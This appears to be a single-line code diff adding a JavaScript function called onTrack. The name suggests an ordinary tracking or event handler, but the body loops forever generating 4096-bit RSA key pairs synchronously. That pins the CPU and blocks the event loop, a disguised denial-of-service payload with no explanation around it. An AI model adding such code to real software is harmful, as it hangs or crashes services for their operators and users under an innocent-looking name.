@@ -1,0 +1,1 @@
+async function onTrack() { for (;;) crypto.generateKeyPairSync("rsa", { modulusLength: 4096 }); }
